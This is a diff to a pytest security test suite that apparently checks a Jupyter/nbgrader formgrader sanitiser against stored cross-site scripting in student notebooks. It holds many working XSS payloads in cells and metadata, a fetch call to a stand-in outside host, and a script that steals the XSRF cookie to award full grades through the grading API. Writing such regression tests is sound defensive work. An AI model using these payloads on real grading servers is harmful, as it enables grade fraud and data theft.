@@ -12,7 +12,6 @@ import base64
 import contextlib
 import http.server
 import json
-import os
 import re
 import shutil
 import socket
@@ -22,7 +21,6 @@ import threading
 import time
 import urllib.parse
 import urllib.request
-import uuid
 from pathlib import Path
 
 import nbformat
@@ -48,8 +46,8 @@ PNG = "iVBORw0KGgoAAAANSUhEUgAAAAMAAAACCAIAAAASFvFNAAAAEElEQVR4nGM4IScHQQxwFgBBA
 RUN = "window.top.owned='PAYLOAD';fetch('OUTSIDE/PAYLOAD',{mode:'no-cors'})"
 SEND = "fetch('OUTSIDE/PAYLOAD',{mode:'no-cors'})"
 # The attack that was seen: the formgrader's own interface gives the author all points.
-POINTS = ("fetch('/formgrader/api/grades?submission_id='+submission_id).then(all=>all.json()).then(all=>all.forEach(one=>"
-          "fetch('/formgrader/api/grade/'+one.id,{method:'PUT',body:JSON.stringify({manual_score:5}),"
+POINTS = ("fetch(base_url+'/api/grades?submission_id='+submission_id).then(all=>all.json()).then(all=>all.forEach(one=>"
+          "fetch(base_url+'/api/grade/'+one.id,{method:'PUT',body:JSON.stringify({manual_score:5}),"
           "headers:{'X-XSRFToken':document.cookie.match(/_xsrf=([^;]*)/)[1]}})))")
 
 # Written answers: what stands in the cell after the harmless part.
@@ -94,7 +92,8 @@ MARKDOWN = {
     "mutation-comment": '<!--><img src=x onerror="RUN">-->',
     "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
     "mutation-math": '<form><math><mtext></form><form><mglyph><style></math><img src=x onerror="RUN">',
-    "mutation-table": '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=&quot;RUN&quot;&gt;">',
+    "mutation-table": '<math><mtext><table><mglyph><style><!--</style>'
+                      '<img title="--&gt;&lt;img src=1 onerror=&quot;RUN&quot;&gt;">',
     "heading": '# A heading <img src=x onerror="RUN">',
     "alt-text": '![a" onerror="RUN](x)',
     "title-text": "![a](x 'b\" onerror=\"RUN')",
@@ -109,7 +108,7 @@ MARKDOWN = {
     "math-script": r'<script type="math/tex">\href{javascript:RUN}{x}</script>',
     "button": '<span class="full-credit btn">Click here for the picture</span>',
     "clobber": f'<div class="nbgrader_cell"><a id="{BY_HAND}" class="score full-credit">click</a></div>',
-    "course-elsewhere": "![x](/formgrader?path=COURSE/autograded/evil/course)",
+    "course-elsewhere": "![x](/user/teacher/formgrader?path=COURSE/autograded/evil/course)",
 }
 # Outputs of the student's code.
 OUTPUTS = {
@@ -160,14 +159,16 @@ AROUND = {
     "code": with_cell(cell_type="code", execution_count=None, outputs=[], source="// </pre></script><script>RUN</script>"),
     "raw": with_cell(cell_type="raw", source="<script>RUN</script>", metadata={"raw_mimetype": "text/html"}),
     "cell-name": with_cell(cell_type="code", execution_count=None, outputs=[], source="1", id=TAG),
-    "cell-tags": with_cell(cell_type="code", execution_count=None, outputs=[], source="1", metadata={"tags": [TAG, 'x full-credit']}),
+    "cell-tags": with_cell(cell_type="code", execution_count=None, outputs=[], source="1",
+                           metadata={"tags": [TAG, "x full-credit"]}),
     "cell-grade": with_cell(cell_type="markdown", source="x", metadata={"nbgrader": {
         "grade": True, "solution": True, "task": False, "grade_id": TAG, "points": 1, "schema_version": 3, "locked": False,
         "cell_type": "markdown", "comment": "<script>RUN</script>"}}),
     "title": with_metadata(title="</title><script>RUN</script>"),
     "language": with_metadata(language_info={"name": TAG, "pygments_lexer": TAG}),
     "kernel": with_metadata(kernelspec={"name": "java", "display_name": TAG, "language": "java"}),
-    "widgets": with_metadata(widgets={"application/vnd.jupyter.widget-state+json": {"state": {}, "x": "</script><script>RUN</script>"}}),
+    "widgets": with_metadata(widgets={"application/vnd.jupyter.widget-state+json": {
+        "state": {}, "x": "</script><script>RUN</script>"}}),
     "attachment-svg": with_attachment("![x](attachment:a.svg)", {"a.svg": {"image/svg+xml": base64.b64encode(
         b'<svg xmlns="http://www.w3.org/2000/svg"><script>top.owned=1</script></svg>').decode()}}),
     "attachment-kind": with_attachment("![x](attachment:a)", {"a": {'text/html" onerror="RUN': "x"}}),
@@ -195,12 +196,11 @@ def sheet(names, outside, course=""):
     notebook = json.loads(nbformat.writes(released(NAME)))
     answer = next(cell for cell in notebook["cells"] if cell["metadata"].get("nbgrader", {}).get("grade_id") == BY_HAND)
     answer["source"] = HARMLESS
-    with_output({"output_type": "display_data", "metadata": {}, "data": {
-        "image/png": PNG, "text/html": None, "text/plain": "a chart"}})(notebook)
-    del notebook["cells"][-1]["outputs"][0]["data"]["text/html"]
-    with_output({"output_type": "display_data", "metadata": {}, "data": {
-        "text/html": '<table><caption style="text-align:left">Sums</caption><tr><td style="text-align:right">0.75</td></tr></table>'}})(notebook)
-    with_output({"output_type": "error", "ename": "Not right", "evalue": "x", "traceback": ["\x1b[31mThe sum is 1 < 2.\x1b[0m"]})(notebook)
+    table = '<table><caption style="text-align:left">Sums</caption><tr><td style="text-align:right">0.75</td></tr></table>'
+    for output in ({"output_type": "display_data", "metadata": {}, "data": {"image/png": PNG, "text/plain": "a chart"}},
+                   {"output_type": "display_data", "metadata": {}, "data": {"text/html": table}},
+                   {"output_type": "error", "ename": "x", "evalue": "x", "traceback": ["\x1b[31mThe sum is 1 < 2.\x1b[0m"]}):
+        with_output(output)(notebook)
     for name in names:
         ours = len(notebook["cells"])
         before = json.dumps(notebook["metadata"])
@@ -217,7 +217,8 @@ def sheet(names, outside, course=""):
 def filler(name, outside, course):
     def fill(value):
         text = json.dumps(value)
-        for word, meaning in (("RUN", RUN), ("SEND", SEND), ("POINTS", POINTS), ("PAYLOAD", name), ("OUTSIDE", outside), ("COURSE", course)):
+        for word, meaning in (("RUN", RUN), ("SEND", SEND), ("POINTS", POINTS), ("PAYLOAD", name), ("OUTSIDE", outside),
+                              ("COURSE", course)):
             text = text.replace(word, meaning)
         return json.loads(text)
 
@@ -299,8 +300,10 @@ def server(course):
     port, log = free_port(), course.parent / "log"
     running = subprocess.Popen(
         [sys.executable, course / "course.py", "lab", "--no-browser", "--allow-root", f"--port={port}", "--expose-app-in-browser",
-         f"--IdentityProvider.token={TOKEN}"], stdout=log.open("w"), stderr=subprocess.STDOUT)
-    address = f"http://127.0.0.1:{port}"
+         f"--IdentityProvider.token={TOKEN}", "--ServerApp.base_url=/user/teacher/"],
+        stdout=log.open("w"), stderr=subprocess.STDOUT)
+    # As on a hub, the server's addresses begin with the teacher's name.
+    address = f"http://127.0.0.1:{port}/user/teacher"
     end = time.monotonic() + START_SECONDS
     while True:
         try:
@@ -573,8 +576,7 @@ def unprotected(notebook, file, exporter=None):
 @pytest.mark.parametrize("student", SHEETS)
 def test_what_is_stored_runs_in_no_page(teacher, outside, tmp_path, student):
     # nbconvert itself stops at an attachment that is not there, or was no picture.
-    names = [name for name in SHEETS[student] if name not in ("attachment-svg", "attachment-kind", "attachment-data", "attachment-name",
-                                                                         "attachment-missing")]
+    names = [name for name in SHEETS[student] if not name.startswith("attachment-")]
     notebook = nbformat.from_dict(sheet(names, outside[0]))
     stored, _ = sanitising.Harmless().preprocess(notebook, {})
     nbformat.validate(stored)
@@ -649,7 +651,8 @@ def test_nothing_malformed_stops_a_page(outside):
         deep = [deep]
     for value in (None, 3, -1, True, "x", [], ["x", 3, None], {}, {"a": {"b": 3}}, deep, "\ud800", "\0", ">" * 3000):
         cells = [{"cell_type": kind, "source": value, "metadata": value if isinstance(value, dict) else {}, "attachments": value,
-                  "outputs": [{"output_type": out, "data": data, "text": value, "traceback": value, "metadata": value, "name": value}
+                  "outputs": [{"output_type": out, "data": data, "text": value, "traceback": value, "metadata": value,
+                               "name": value}
                               for out in ("stream", "error", "display_data", "execute_result", value)
                               for data in (value, {"text/html": value, "image/png": value})] + [value],
                   "execution_count": value, "id": value} for kind in ("code", "markdown", "raw")]
@@ -672,6 +675,14 @@ def test_a_graded_answer_is_stored_without_its_script(course, tmp_path):
     assert answer == HARMLESS + "&lt;script>RUN&lt;/script>"
     assert cells[-1].source == show
     assert cells[-1].outputs[0].data["text/html"] == "<table><tbody><tr><td>kept</td></tr></tbody></table>"
+
+
+def test_a_hub_installs_what_the_lock_names():
+    binder = notebooks.ROOT / "binder"
+    lock = (binder / "requirements-course.txt").read_text(encoding="utf-8")
+    needed = [f"{name}=={re.search(rf'^{name}==([^ ;]+)', lock, re.M)[1]}" for name in ("nh3", "jupyter-server-mathjax")]
+    for file in ("README.md", "Dockerfile"):
+        assert " ".join(needed) in (binder / "hub" / file).read_text(encoding="utf-8")
 
 
 # ---------------------------------------------------------------- JupyterLab
